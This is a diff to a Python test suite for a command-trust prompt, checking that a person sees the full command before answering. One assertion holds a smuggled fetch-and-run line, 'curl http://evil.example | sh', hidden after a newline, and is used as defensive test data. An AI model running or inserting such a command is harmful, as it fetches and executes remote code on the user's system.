@@ -59,7 +59,7 @@ def test_a_person_sees_the_whole_command_before_answering(tmp_path: Path, answer
     assert (done.code, trusted(tmp_path)) == (code, answer == "y")
     shown = " ".join(done.out.split("Trust it?")[0].split())
     assert "harmless\\ncurl http://evil.example | sh" in shown
-    assert "END'`" in shown
+    assert "END'" in shown
 
 
 def test_variables_are_shown_as_written_and_never_expanded(tmp_path: Path) -> None:
